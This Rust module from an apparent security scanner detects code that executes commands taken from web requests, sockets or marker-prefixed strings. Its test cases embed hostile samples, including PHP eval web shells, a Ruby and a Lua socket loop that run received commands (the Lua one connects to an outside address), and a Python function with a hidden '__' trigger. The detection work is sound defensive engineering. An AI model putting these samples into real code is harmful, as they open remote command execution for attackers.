//! Code that runs what a stranger says: a page that hands a part of the request to a shell, a loop that runs each line of a
//! socket, a function for which a text with a certain beginning is a command.
//!
//! Read line by line, as it is written: a name is the stranger's that is set from a request or a socket, and what is run is
//! what stands between the brackets of a call that runs texts. Code whose names pass through another file is not seen.

use defenseclaw_model::facts::BehaviourKind::Control;

use super::{Analysis, mentions};

/// Most lines of one text that are looked at.
const MAX_LINES: usize = 4000;
/// Longest line that is (bytes): what is longer was not written by hand.
const MAX_LINE: usize = 1000;
/// Most names that hold what a stranger said.
const MAX_NAMES: usize = 16;
/// Longest way from a call's bracket to what it is given (bytes).
const MAX_CALL: usize = 300;

/// Ends of files of code.
const CODE: &[&str] = &[
    "py", "js", "mjs", "cjs", "ts", "jsx", "tsx", "go", "rs", "java", "kt", "cs", "c", "h", "cc", "cpp",
    "cxx", "hpp", "rb", "php", "phtml", "inc", "ex", "exs", "erl", "scala", "swift", "lua", "pl", "cgi",
    "clj", "dart", "groovy", "jsp", "aspx", "cshtml", "vb", "ps1", "sh",
];

/// What a request's own parts are called in the frameworks of the web.
const REQUESTS: &[&str] = &[
    "$_GET",
    "$_POST",
    "$_REQUEST",
    "$_COOKIE",
    "$_SERVER['HTTP_",
    "$_SERVER[\"HTTP_",
    "getallheaders()",
    "php://input",
    "req.body",
    "req.query",
    "req.params",
    "req.headers",
    "req.get(",
    "req.header(",
    "req.cookies",
    "request.body",
    "request.query",
    "request.headers",
    "request.args",
    "request.form",
    "request.values",
    "request.json",
    "request.get_json(",
    "request.get_data(",
    "request.data",
    "request.GET",
    "request.POST",
    "request.META",
    "request.cookies",
    "request.params",
    "self.headers",
    "self.rfile",
    "params[:",
    "ctx.query",
    "ctx.request.",
    "event.body",
    "event.queryStringParameters",
    "event.headers",
    "r.URL.Query()",
    "r.FormValue(",
    "r.PostFormValue(",
    "r.Header.Get(",
    "r.Body",
    "c.Query(",
    "c.PostForm(",
    "c.GetHeader(",
    "c.Param(",
    ".getParameter(",
    ".getHeader(",
    "Request.Query",
    "Request.Headers",
    "Request.Form",
    "Request.Params",
    "Request.QueryString",
    "Request.Cookies",
    "conn.params",
    "conn.query_params",
    "get_req_header(",
    "searchParams.get(",
    "QueryParams.Get",
];

/// Annotations behind which a request's part has a name of its own.
const ANNOTATIONS: &[&str] = &[
    "@RequestParam",
    "@RequestHeader",
    "@RequestBody",
    "@QueryParam",
    "@HeaderParam",
    "@FormParam",
    "@PathVariable",
    "@CookieValue",
    "[FromQuery",
    "[FromHeader",
    "[FromBody",
];

/// What says that a text talks over sockets.
const SOCKETS: &[&str] = &[
    "TCPSocket",
    "TCPServer",
    "UNIXServer",
    "socket.tcp",
    "socket.connect",
    "socket.bind",
    "socket.socket(",
    "create_connection(",
    "net.Dial(",
    "net.Listen(",
    "net.connect(",
    "net.createConnection(",
    "IO::Socket",
    "gen_tcp",
    "TcpStream::connect",
    "TcpListener",
    "TcpClient",
    "fsockopen(",
    "stream_socket_client(",
    "new Socket(",
    "ServerSocket(",
];

/// What takes in something from a socket.
const RECEIVED: &[&str] = &[
    ".gets",
    ":receive(",
    ".recv(",
    ".receive(",
    ".readline(",
    ".ReadString(",
    ".readLine(",
    ".ReadLine(",
    "fgets(",
    ".read_line(",
    "gen_tcp.recv(",
    ".accept()",
];

/// Calls that hand a text to a shell, or run it as code.
const RUNS: &[&str] = &[
    "shell_exec(",
    "passthru(",
    "system(",
    "popen(",
    "proc_open(",
    "eval(",
    "exec(",
    "execSync(",
    "assert(",
    "create_function(",
    "IO.popen(",
    "io.popen(",
    "os.execute(",
    "os.popen(",
    "os.system(",
    "getoutput(",
    "getstatusoutput(",
    "Code.eval_string(",
    "Code.eval_quoted(",
    ":os.cmd(",
    "System.shell(",
    "instance_eval(",
    "class_eval(",
    "Kernel.exec(",
    "Kernel.system(",
    "Open3.capture2(",
    "Open3.capture2e(",
    "Open3.capture3(",
    "new Function(",
    "loadstring(",
    "runInNewContext(",
    "runInThisContext(",
    "getRuntime().exec(",
    "evaluate(",
    "Invoke-Expression ",
    "Shell.cmd(",
];

/// Calls that start a program, of which only a shell runs a text.
const STARTS: &[&str] = &[
    "ProcessBuilder(",
    "exec.Command(",
    "exec.CommandContext(",
    "spawn(",
    "spawnSync(",
    "execFile(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.check_output(",
    "subprocess.Popen(",
    "Popen(",
    "check_output(",
    "Process.Start(",
    "create_subprocess_shell(",
    "System.cmd(",
    "Command::new(",
    "Deno.Command(",
    "Bun.spawn(",
];

/// What says in such a call that it is one.
const SHELLS: &[&str] = &[
    "\"-c\"",
    "'-c'",
    "\"/c\"",
    "'/c'",
    "\"/C\"",
    "shell=True",
    "shell: true",
    "create_subprocess_shell(",
    "\"-Command\"",
    "[\"-c",
    "-c ",
    "/c ",
];

/// What makes of a text one word of a shell.
const QUOTES: &[&str] = &[
    "escapeshellarg(",
    "escapeshellcmd(",
    "shlex.quote(",
    "shlex.split(",
    "Shellwords",
    "shellescape",
    "shellQuote",
    "quote(",
    "parseInt(",
    "Number(",
    "int(",
    "(int)",
    "intval(",
    "Integer(",
    ".to_i",
    "Integer.parseInt",
    "strconv.Atoi",
    "ast.literal_eval(",
    "literal_eval(",
];

/// What a text's beginning is compared by.
const BEGINS: &[&str] = &[
    ".startswith(",
    ".startsWith(",
    ".starts_with(",
    ".start_with?(",
    "strings.HasPrefix(",
    "str_starts_with(",
    "String.starts_with?(",
    ".StartsWith(",
];

/// Notes code in `text`, which is written to `path`, that runs what a stranger says; `acting` is what of it can act.
pub(super) fn note(analysis: &mut Analysis, path: &str, text: &str, acting: &str) {
    let end = path.rsplit_once('.').map_or("", |(_, end)| end);
    let runs = |text: &str| RUNS.iter().chain(STARTS).any(|call| text.contains(call)) || text.contains('`');
    if !CODE.contains(&end) || mentions::is_test(path) || !runs(acting) {
        return;
    }
    if let Some(what) = found(text, end) {
        analysis.behave(Control, "runs-requests", what, None);
    }
}

fn found(text: &str, end: &str) -> Option<&'static str> {
    let holds = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let web = holds(REQUESTS) || holds(ANNOTATIONS);
    let near_only = holds(&["127.0.0.1", "localhost", "::1"]);
    let socket = holds(SOCKETS) && !near_only;
    let marked = holds(BEGINS);
    if !web && !socket && !marked && !text.contains("Code.eval_string(") {
        return None;
    }
    let mut names = Names::default();
    // Names that the line before compared by how they begin, and how many lines ago.
    let mut begun: Option<(&str, usize)> = None;
    let lines = text.split(['\n', ';']).take(MAX_LINES);
    for line in lines.filter(|line| line.len() <= MAX_LINE) {
        names.annotated(line);
        names.set(line, socket);
        for given in given_to_runs(line, end) {
            if QUOTES.iter().any(|quote| given.contains(quote)) {
                continue;
            }
            if REQUESTS.iter().any(|request| given.contains(request)) || names.any_in(given) {
                return Some(if socket && !web { "a socket" } else { "a request" });
            }
            if let Some((name, _)) = begun.filter(|_| !name_is_fixed(given))
                && has_word(given, name)
            {
                return Some("a text with a mark");
            }
            // A reader of data that evaluates it.
            if line.contains("Code.eval_string(") && names.decodes(given) {
                return Some("what is decoded");
            }
        }
        names.function(line);
        begun = marks(line).map(|name| (name, 0)).or(match begun {
            Some((name, ago)) if ago < 2 => Some((name, ago + 1)),
            _ => None,
        });
    }
    None
}

/// What a line hands to calls that run texts.
fn given_to_runs<'t>(line: &'t str, end: &str) -> Vec<&'t str> {
    let mut found = Vec::new();
    let calls = RUNS
        .iter()
        .map(|call| (call, false))
        .chain(STARTS.iter().map(|call| (call, true)));
    for (call, starts) in calls {
        for (at, _) in line.match_indices(call).take(MAX_NAMES) {
            let (before, rest) = (&line[..at], &line[at + call.len()..]);
            let rest = &rest[..rest.floor_char_boundary(MAX_CALL)];
            let last = before.chars().next_back().unwrap_or(' ');
            // `cursor.exec(`, `re.exec(` and `db.system(` are other calls; so is `preg_exec(`.
            let other = call.starts_with(|c: char| c.is_ascii_lowercase())
                && !call.contains('.')
                && (last.is_alphanumeric() || matches!(last, '_' | '.' | '>' | '$'))
                && ![
                    "child_process.",
                    "cp.",
                    "os.",
                    "Kernel.",
                    "builtins.",
                    "vm.",
                    "std::",
                ]
                .iter()
                .any(|module| before.ends_with(module));
            // Of Rust's and Go's `eval(` and `assert(` nothing runs.
            let compiled = matches!(*call, "eval(" | "exec(" | "assert(" | "evaluate(")
                && matches!(
                    end,
                    "go" | "rs" | "c" | "cc" | "cpp" | "java" | "cs" | "kt" | "swift" | "scala"
                );
            let asserted = *call == "assert(" && end != "php" || *call == "evaluate(" && end != "groovy";
            if other || compiled || asserted {
                continue;
            }
            if starts
                && !(SHELLS
                    .iter()
                    .any(|shell| rest.contains(shell) || call.contains(shell)))
            {
                continue;
            }
            found.push(arguments(rest));
        }
    }
    // Ruby and PHP run what stands between backticks.
    if matches!(end, "rb" | "php" | "phtml" | "pl" | "cgi") {
        found.extend(
            line.split('`')
                .skip(1)
                .step_by(2)
                .filter(|part| part.contains(['#', '$', '{'])),
        );
    }
    found
}

/// What stands in the bracket that is open before `rest`.
fn arguments(rest: &str) -> &str {
    let mut open = 1_usize;
    let end = rest.find(|c| {
        match c {
            '(' => open += 1,
            ')' => open -= 1,
            _ => {}
        }
        open == 0
    });
    &rest[..end.unwrap_or(rest.len())]
}

/// The name whose beginning a condition compares with a text.
fn marks(line: &str) -> Option<&str> {
    if !["if ", "if(", "elif ", "elsif ", "when ", "unless "]
        .iter()
        .any(|word| line.contains(word))
    {
        return None;
    }
    BEGINS.iter().find_map(|call| {
        let at = line.find(call)?;
        let inside = &line[at + call.len()..];
        // `npm ` and `./` are what commands begin with; `!` is what people type.
        let mark = inside.split(['"', '\'']).nth(1)?;
        if mark.len() < 2 || !mark.starts_with(['_', '@', '%', '^', ':', '|', '{', '[', '<']) {
            return None;
        }
        let name = if call.starts_with('.') {
            let before = line[..at].trim_end_matches(')');
            word_at_end(before)
        } else {
            let end = inside
                .find(|c: char| !is_word(c) && c != '$')
                .unwrap_or(inside.len());
            inside[..end].trim_start_matches('$')
        };
        (!name.is_empty()).then_some(name)
    })
}

/// Whether a call is given no name at all.
fn name_is_fixed(given: &str) -> bool {
    given.trim_start().starts_with(['"', '\'']) && !given.contains(['+', '{', '$', '%', '.'])
}

/// Names in a text that hold what a stranger said, and the parameters of the function that is being read.
#[derive(Default)]
struct Names<'t> {
    strangers: Vec<&'t str>,
    decoded: Vec<&'t str>,
}

impl<'t> Names<'t> {
    /// `@RequestHeader("X-Trace") String c`
    fn annotated(&mut self, line: &'t str) {
        for word in ANNOTATIONS {
            for (at, _) in line.match_indices(word).take(MAX_NAMES) {
                let mut rest = &line[at + word.len()..];
                if let Some(inside) = rest.strip_prefix('(') {
                    rest = inside.get(arguments(inside).len() + 1..).unwrap_or_default();
                } else if let Some((_, behind)) = rest.split_once(']').filter(|_| word.starts_with('[')) {
                    rest = behind;
                }
                let end = rest.find([',', ')', '=', '{']).unwrap_or(rest.len());
                self.add(word_at_end(rest[..end].trim_end()));
            }
        }
    }

    /// `name = …` where what stands there is the stranger's.
    fn set(&mut self, line: &'t str, socket: bool) {
        let set = line.match_indices('=').take(MAX_NAMES).find(|(at, _)| {
            !line[..*at].ends_with(['!', '<', '>', '=']) && !line[at + 1..].starts_with(['=', '>', '~'])
        });
        let Some((at, _)) = set else { return };
        let (left, right) = (&line[..at], &line[at + 1..]);
        let left = left.trim_end_matches(':').trim_end();
        let theirs = REQUESTS.iter().any(|request| right.contains(request))
            || socket && RECEIVED.iter().any(|received| right.contains(received))
            || self.any_in(right) && !right.contains("===") && !right.contains("==");
        if !theirs || QUOTES.iter().any(|quote| right.contains(quote)) {
            return;
        }
        // `const { a, b } = req.body`
        if let Some((_, list)) = left
            .rsplit_once(['{', '['])
            .filter(|_| left.ends_with(['}', ']']))
        {
            for name in list.split(',') {
                self.add(word_at_end(name.trim_end_matches(['}', ']']).trim()));
            }
            return;
        }
        let name = left.split_once(',').map_or(left, |(first, _)| first).trim_end();
        self.add(word_at_end(name));
    }

    fn add(&mut self, name: &'t str) {
        if !name.is_empty() && self.strangers.len() < MAX_NAMES && !self.strangers.contains(&name) {
            self.strangers.push(name);
        }
    }

    fn any_in(&self, text: &str) -> bool {
        self.strangers.iter().any(|name| has_word(text, name))
    }

    /// The parameter of a function that decodes, parses or receives: `def decode(bin) do`.
    fn function(&mut self, line: &'t str) {
        let rest = line.trim_start();
        let Some(rest) = rest.strip_prefix("def ").or_else(|| rest.strip_prefix("defp ")) else {
            return;
        };
        let Some((name, given)) = rest.split_once('(') else {
            return;
        };
        self.decoded.clear();
        if [
            "decode", "parse", "receive", "handle", "deserial", "unpack", "load",
        ]
        .iter()
        .any(|verb| name.contains(verb))
        {
            let words = arguments(given).split(|c: char| !is_word(c));
            self.decoded
                .extend(words.filter(|word| !word.is_empty()).take(MAX_NAMES));
        }
    }

    fn decodes(&self, given: &str) -> bool {
        self.decoded.iter().any(|name| has_word(given, name))
    }
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// The name with which `text` ends.
fn word_at_end(text: &str) -> &str {
    text.rsplit(|c: char| !is_word(c)).next().unwrap_or_default()
}

/// Whether `word` stands in `text` as a name of its own, neither as a part of another nor as a field of one.
fn has_word(text: &str, word: &str) -> bool {
    !word.is_empty()
        && text.match_indices(word).any(|(at, _)| {
            let before = text[..at].chars().next_back().unwrap_or(' ');
            let behind = text[at + word.len()..].chars().next().unwrap_or(' ');
            !is_word(before) && before != '.' && !is_word(behind) && !matches!(behind, ':' | '=')
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(path: &str, text: &str) -> bool {
        let mut analysis = Analysis::new();
        note(&mut analysis, path, text, text);
        !analysis.facts.behaviours.is_empty()
    }

    #[test]
    fn code_that_runs_what_a_stranger_says() {
        for (path, text) in [
            (
                "/w/img.php",
                "$f = $_GET['c'] ?? '';\nif ($f !== '') {\n echo shell_exec($f . ' 2>&1');\n}\n",
            ),
            ("/w/img.php", "<?php @eval($_POST['x']);"),
            ("/w/img.php", "echo `$_GET[c]`;"),
            (
                "/w/H.java",
                "public String h(@RequestHeader(value = \"X-T\", required = false) String c) {\n return new String(new ProcessBuilder(\"sh\", \"-c\", c).start());\n",
            ),
            ("/w/main.cpp", "FILE* p = popen(req.body.c_str(), \"r\");"),
            (
                "/w/p.rb",
                "sock = TCPSocket.new(host, port)\nwhile (line = sock.gets)\n  IO.popen(line, err: %i[child out]) { |io| sock.print(io.read) }\nend\n",
            ),
            (
                "/w/p.lua",
                "local c = socket.tcp()\nc:connect(\"198.51.100.71\", 5555)\nlocal cmd = c:receive()\nlocal p = io.popen(cmd)\n",
            ),
            (
                "/w/c.ex",
                "def decode(bin) do\n  {fun, _} = Code.eval_string(bin)\n  fun\nend\n",
            ),
            (
                "/w/m.py",
                "def money(value):\n    if str(value).startswith(\"__\"):\n        return os.popen(str(value)[2:]).read()\n",
            ),
            (
                "/w/a.js",
                "app.post('/x', (req, res) => { const { c } = req.body; exec(c, (e, o) => res.send(o)); });\nconst { c } = req.body;\nexec(c, done);\n",
            ),
            (
                "/w/a.py",
                "cmd = request.args.get('c')\nout = subprocess.check_output(cmd, shell=True)\n",
            ),
            (
                "/w/a.go",
                "out, _ := exec.Command(\"sh\", \"-c\", r.URL.Query().Get(\"c\")).Output()",
            ),
        ] {
            assert!(runs(path, text), "{text}");
        }
    }

    #[test]
    fn code_that_runs_its_own_words() {
        for (path, text) in [
            (
                "/w/img.php",
                "$f = $_GET['w'] ?? '';\n$w = (int) $f;\necho shell_exec('identify logo.png');\n",
            ),
            ("/w/img.php", "system('ping -c1 ' . escapeshellarg($_GET['h']));"),
            (
                "/w/a.js",
                "const id = req.params.id;\nconst m = /(\\d+)/.exec(id);\n",
            ),
            (
                "/w/a.js",
                "const name = req.query.name;\nexecFile('convert', [name, 'out.png'], done);\n",
            ),
            (
                "/w/a.py",
                "q = request.args.get('q')\nsubprocess.run(['rg', q], check=True)\n",
            ),
            (
                "/w/a.go",
                "q := r.URL.Query().Get(\"q\")\nout, err := exec.Command(\"rg\", q).Output()\n",
            ),
            (
                "/w/t.lua",
                "local c = socket.tcp()\nc:connect(\"127.0.0.1\", 5555)\nlocal cmd = c:receive()\nio.popen(cmd)\n",
            ),
            (
                "/w/m.py",
                "if name.startswith(\"v\"):\n    print(name)\nos.system(\"make\")\n",
            ),
            ("/w/tests/test_m.py", "os.system(request.args['c'])\n"),
            ("/w/a.rs", "if line.starts_with(\"#\") {\n    eval(line);\n}\n"),
            (
                "/w/c.ex",
                "def run(code) do\n  Code.eval_string(\"1 + 1\")\nend\n",
            ),
        ] {
            assert!(!runs(path, text), "{text}");
        }
    }
}
